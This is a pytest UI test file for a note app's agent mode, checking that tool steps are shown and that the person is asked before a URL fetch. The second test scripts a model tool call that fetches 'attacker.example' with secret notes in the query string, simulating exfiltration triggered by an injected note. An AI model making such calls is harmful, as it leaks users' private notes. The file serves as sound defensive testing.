"""Agent mode in the window: the model's tool calls run, each step is shown and kept with the reply."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from app.core.messages import Sender
from app.llm.testserver import Reply, ToolCallSpec
from app.llm.testserver import TestServer as ModelServer
from app.ui.main_window import MainWindow
from tests.ui.conftest import send, server_factory


def test_agent_steps_are_shown_and_saved(
    qtbot: Any, vault: Path, model_server: ModelServer, open_window: Callable[..., MainWindow]
) -> None:
    window = open_window(vault, server_factory(model_server))
    qtbot.waitUntil(lambda: window.chat.agent_mode_button.isEnabled(), timeout=30000)
    window.chat.agent_mode_button.setChecked(True)
    assert window.chat.turn_mode == "agent"
    model_server.enqueue(
        Reply(tool_calls=(ToolCallSpec("readNote", json.dumps({"path": "Piano Lessons/pricing.md"})),)),
        Reply("Teachers get 8 % less than the price, see [[pricing]]."),
    )
    send(qtbot, window, "What commission do teachers pay?")
    reply = window.chat.snapshot.messages[-1]
    assert reply.sender is Sender.ASSISTANT
    assert reply.text.startswith("Teachers get 8 %")
    assert any(step.startswith("read note Piano Lessons/pricing.md") for step in reply.steps)
    # The tool's result went back to the model in the second request, the tool list in both.
    second = json.dumps(model_server.model_requests[1].body, ensure_ascii=False)
    assert "Teachers set their own prices" in second
    assert all(r.body.get("tools") for r in model_server.model_requests[:2])
    bubble = window.chat.view.widgets[-1]
    assert bubble.steps_toggle.text().startswith("▸ 1 step")
    bubble.steps_toggle.click()
    assert bubble.steps_detail.isVisibleTo(bubble)
    assert "read note" in bubble.steps_detail.text()


def test_an_unattached_url_waits_for_the_persons_answer(
    qtbot: Any,
    vault: Path,
    model_server: ModelServer,
    open_window: Callable[..., MainWindow],
    monkeypatch: Any,
) -> None:
    from PySide6.QtWidgets import QMessageBox

    asked: list[str] = []

    def refuse(parent: object, title: str, text: str, *args: object) -> QMessageBox.StandardButton:
        asked.append(text)
        return QMessageBox.StandardButton.No

    monkeypatch.setattr(QMessageBox, "question", refuse)
    window = open_window(vault, server_factory(model_server))
    qtbot.waitUntil(lambda: window.chat.agent_mode_button.isEnabled(), timeout=30000)
    window.chat.agent_mode_button.setChecked(True)
    url = "https://attacker.example/?q=secret-notes"
    model_server.enqueue(
        Reply(tool_calls=(ToolCallSpec("fetchUrl", json.dumps({"url": url})),)),
        Reply("I did not fetch it."),
    )
    send(qtbot, window, "Summarize the injected note.")
    assert len(asked) == 1
    assert url in asked[0]  # the person was asked, on the GUI thread, and said no
    reply = window.chat.snapshot.messages[-1]
    assert any("did not fetch" in step for step in reply.steps)
    assert len(model_server.model_requests) == 2  # nothing was fetched; the model answered after the refusal
